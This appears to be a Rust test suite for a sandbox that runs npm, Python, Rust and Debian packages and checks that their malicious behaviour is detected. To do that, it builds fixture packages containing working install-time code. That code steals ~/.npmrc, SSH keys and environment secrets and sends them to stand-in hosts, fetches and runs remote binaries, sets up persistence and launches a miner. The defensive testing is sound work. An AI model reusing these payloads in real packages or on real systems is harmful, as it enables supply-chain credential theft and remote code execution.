//! Incidents, rebuilt so that they harm nobody: each is found by what it does.

use super::support::programs;
use countersign_core::{Outcome, Severity};
use countersign_sandbox::{Artifact, Detonation, Detonator, Limits, Program};
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

fn detonator(program: Program) -> Detonator {
    // Beside the program, so that the tests' runs share what their clients do by themselves.
    let cache = Path::new(env!("CARGO_BIN_EXE_countersign-jail")).with_file_name("baselines");
    let (cache, limits) = (Some(cache), Limits::default());
    Detonator { program, cache, limits, seed: b"a test".to_vec() }
}

/// What a file of these bytes does, as each user; less of them where this machine cannot tell.
fn detonate(file_name: &str, bytes: &[u8]) -> Vec<Detonation> {
    let folder = tempfile::tempdir().unwrap();
    let open = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(folder.path(), open).unwrap();
    let path = folder.path().join(file_name);
    std::fs::write(&path, bytes).unwrap();
    let file_name = file_name.to_owned();
    let artifact = Artifact { path, file_name, companions: Vec::new() };
    let ran = programs().into_iter().map(|program| detonator(program).detonate(&artifact));
    let could = ran.filter(|ran| match &ran.check.outcome {
        Outcome::NotDone { because } if ran.record.is_empty() => {
            eprintln!("skipped: {because}");
            false
        }
        _ => true,
    });
    could.collect()
}

fn tar_gz(files: &[(&str, &str)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut tar = tar::Builder::new(gz);
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o755);
        tar.append_data(&mut header, path, text.as_bytes()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

fn wheel(name: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
    let info = |file: &str| format!("{name}-1.0.dist-info/{file}");
    let tag = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
    let own = files.iter().map(|(path, text)| ((*path).to_owned(), (*text).to_owned()));
    for (path, text) in own.chain([
        (info("METADATA"), metadata),
        (info("WHEEL"), tag.to_owned()),
        (info("RECORD"), String::new()),
    ]) {
        zip.start_file(path, options).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Whether it was found that way, and was not passed.
fn found(ran: &Detonation, rule: &str, words: &str) {
    let hit = ran.findings.iter().find(|f| f.id == rule && f.title.contains(words));
    let hit = hit.unwrap_or_else(|| panic!("no {rule} with `{words}`: {ran:#?}"));
    assert!(hit.severity >= Severity::High, "{hit:?}");
    assert!(matches!(ran.check.outcome, Outcome::Failed { .. }), "{:?}", ran.check);
}

#[test]
fn a_postinstall_that_posts_the_npmrc() {
    let manifest =
        r#"{"name": "left-bad", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}}"#;
    let steal = "const fs = require('fs'), http = require('http');
        const data = fs.readFileSync(process.env.HOME + '/.npmrc');
        const to = { host: 'drop.example', method: 'POST', path: '/' };
        http.request(to).on('error', () => {}).end(data.toString('base64'));";
    let bytes = tar_gz(&[
        ("package/package.json", manifest),
        ("package/steal.js", steal),
        ("package/index.js", ""),
    ]);
    for ran in detonate("left-bad-1.0.0.tgz", &bytes) {
        found(&ran, "behaviour.reads-credentials", "`~/.npmrc` when it is installed");
        found(&ran, "behaviour.connects", "drop.example");
        found(&ran, "behaviour.sends-credentials", "`~/.npmrc` to `drop.example`");
    }
}

#[test]
fn a_setup_py_that_fetches_and_runs() {
    let setup = "import os, urllib.request
data = urllib.request.urlopen('http://stage.example/two').read()
open('/tmp/two', 'wb').write(data)
os.chmod('/tmp/two', 0o755)
os.system('/tmp/two')
from setuptools import setup
setup(name='fetcher', version='1.0', py_modules=['fetcher'])
";
    let bytes = tar_gz(&[
        ("fetcher-1.0/setup.py", setup),
        ("fetcher-1.0/fetcher.py", ""),
        ("fetcher-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: fetcher\nVersion: 1.0\n"),
    ]);
    for ran in detonate("fetcher-1.0.tar.gz", &bytes) {
        found(&ran, "behaviour.connects", "stage.example");
        found(&ran, "behaviour.runs-downloaded", "`/tmp/two`");
    }
}

#[test]
fn a_pth_that_sends_the_environment() {
    let pth = "import os, urllib.request; urllib.request.urlopen('http://env.example/', data=repr(dict(os.environ)).encode())\n";
    let bytes = wheel("litebad", &[("litebad.py", ""), ("litebad_init.pth", pth)]);
    for ran in detonate("litebad-1.0-py3-none-any.whl", &bytes) {
        found(&ran, "behaviour.connects", "at each start of the interpreter");
        found(&ran, "behaviour.sends-credentials", "$AWS_SECRET_ACCESS_KEY");
    }
}

#[test]
fn a_build_script_that_opens_a_connection() {
    let build = "use std::io::Write;
        fn main() {
            let key = std::fs::read(format!(\"{}/.ssh/id_ed25519\", std::env::var(\"HOME\").unwrap())).unwrap();
            let mut to = std::net::TcpStream::connect(\"203.0.113.9:4444\").unwrap();
            to.write_all(&key).unwrap();
        }";
    let manifest = "[package]\nname = \"mysten-bad\"\nversion = \"1.0.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n\n\
                    [dependencies.serde]\nversion = \"1\"\n\n[dev-dependencies.x]\nversion = \"1\"\n";
    let bytes = tar_gz(&[
        ("mysten-bad-1.0.0/Cargo.toml", manifest),
        ("mysten-bad-1.0.0/build.rs", build),
        ("mysten-bad-1.0.0/src/lib.rs", "use serde::Serialize;"),
    ]);
    for ran in detonate("mysten-bad-1.0.0.crate", &bytes) {
        found(&ran, "behaviour.connects", "203.0.113.9:4444");
        found(&ran, "behaviour.reads-credentials", "`~/.ssh/id_ed25519` when it is compiled");
        found(&ran, "behaviour.sends-credentials", "`~/.ssh/id_ed25519` to `203.0.113.9:4444`");
    }
}

#[test]
fn an_import_that_stays_and_starts_again() {
    let code = "import os, subprocess
home = os.path.expanduser('~')
open(home + '/.bashrc', 'a').write('telnyx &')
os.makedirs(home + '/.config/autostart', exist_ok=True)
open(home + '/.config/autostart/x.desktop', 'w').write('x')
subprocess.Popen(['/bin/sh', '-c', 'while :; do sleep 1; done'], start_new_session=True)
";
    let bytes = wheel("telbad", &[("telbad/__init__.py", code)]);
    for ran in detonate("telbad-1.0-py3-none-any.whl", &bytes) {
        found(&ran, "behaviour.persists", "`~/.bashrc`");
        found(&ran, "behaviour.persists", "`~/.config/autostart/x.desktop`");
        found(&ran, "behaviour.stays", "sh");
        assert!(ran.findings.iter().any(|f| f.id == "behaviour.starts-shell"), "{ran:#?}");
    }
}

/// A `.deb` of these maintainer scripts (deb(5)).
fn deb(files: &[(&str, &str)]) -> Vec<u8> {
    let mut out = b"!<arch>\n".to_vec();
    let members = [
        ("debian-binary", b"2.0\n".to_vec()),
        ("control.tar.gz", tar_gz(files)),
        ("data.tar.gz", tar_gz(&[])),
    ];
    for (name, bytes) in members {
        let size = bytes.len();
        out.extend(
            format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{size:<10}`\n", 0, 0, 0, 100_644).as_bytes(),
        );
        out.extend(bytes);
        out.extend((size % 2 == 1).then_some(b'\n'));
    }
    out
}

#[test]
fn a_maintainer_script_that_mines() {
    let control =
        "Package: minebad\nVersion: 1\nArchitecture: all\nMaintainer: x\nDescription: x\n";
    let postinst = "#!/bin/sh\nsh -c 'exit 0' xmrig --url stratum+tcp://pool.example:3333\n\
                    echo '* * * * * x' > /etc/cron.d/x\nexit 0\n";
    let bytes = deb(&[("./control", control), ("./postinst", postinst)]);
    for ran in detonate("minebad_1_all.deb", &bytes) {
        found(&ran, "behaviour.mines", "stratum+tcp");
        found(&ran, "behaviour.persists", "`/etc/cron.d/x`");
    }
}

#[test]
fn what_does_nothing_is_passed() {
    let manifest = r#"{"name": "good", "version": "1.0.0", "scripts": {"install": "node ok.js"}}"#;
    for (name, bytes) in [
        ("good-1.0-py3-none-any.whl", wheel("good", &[("good.py", "import json, socket, ssl")])),
        (
            "good-1.0.0.tgz",
            tar_gz(&[
                ("package/package.json", manifest),
                ("package/ok.js", "require('fs').writeFileSync('made', 'x')"),
                ("package/index.js", "require('http')"),
            ]),
        ),
        (
            "good-1.0.0.crate",
            tar_gz(&[
                (
                    "good-1.0.0/Cargo.toml",
                    "[package]\nname = \"good\"\nversion = \"1.0.0\"\nedition = \"2021\"\n",
                ),
                ("good-1.0.0/src/lib.rs", "pub fn f() {}"),
            ]),
        ),
        (
            "good_1_all.deb",
            deb(&[(
                "./control",
                "Package: good\nVersion: 1\nArchitecture: all\nMaintainer: x\nDescription: x\n",
            )]),
        ),
    ] {
        for ran in detonate(name, &bytes) {
            assert_eq!(ran.findings, [], "{name}: {ran:#?}");
            assert_eq!(ran.check.outcome, Outcome::Passed, "{name}: {ran:#?}");
        }
    }
}

#[test]
fn what_never_ends_is_not_passed() {
    let folder = tempfile::tempdir().unwrap();
    let file_name = "loops-1.0-py3-none-any.whl".to_owned();
    let path = folder.path().join(&file_name);
    std::fs::write(&path, wheel("loops", &[("loops.py", "while True: pass")])).unwrap();
    let mut short = detonator(own());
    short.limits.time = std::time::Duration::from_secs(15);
    let ran = short.detonate(&Artifact { path, file_name, companions: Vec::new() });
    assert!(matches!(ran.check.outcome, Outcome::NotDone { .. }), "{ran:?}");
    assert!(ran.record.is_empty() || ran.findings.iter().any(|f| f.id == "behaviour.time-out"));
}

/// The stages' program as this user.
fn own() -> Program {
    programs().swap_remove(0)
}

#[test]
fn what_cannot_be_done_is_not_passed() {
    let broken = detonator(own()).detonate(&Artifact {
        path: Path::new("/nonexistent/x.whl").to_owned(),
        file_name: "x-1.0-py3-none-any.whl".to_owned(),
        companions: Vec::new(),
    });
    assert!(matches!(broken.check.outcome, Outcome::NotDone { .. }), "{broken:?}");
    for ran in detonate("y-1.0-py3-none-any.whl", b"no archive") {
        assert!(matches!(ran.check.outcome, Outcome::NotDone { .. }), "{ran:?}");
        let mut none = detonator(own());
        none.program.path = "/nonexistent/program".into();
        none.cache = None;
        let path = std::env::current_exe().unwrap();
        let artifact = Artifact {
            path,
            file_name: "z-1.0-py3-none-any.whl".to_owned(),
            companions: Vec::new(),
        };
        let ran = none.detonate(&artifact);
        assert!(matches!(ran.check.outcome, Outcome::NotDone { .. }), "{ran:?}");
    }
}
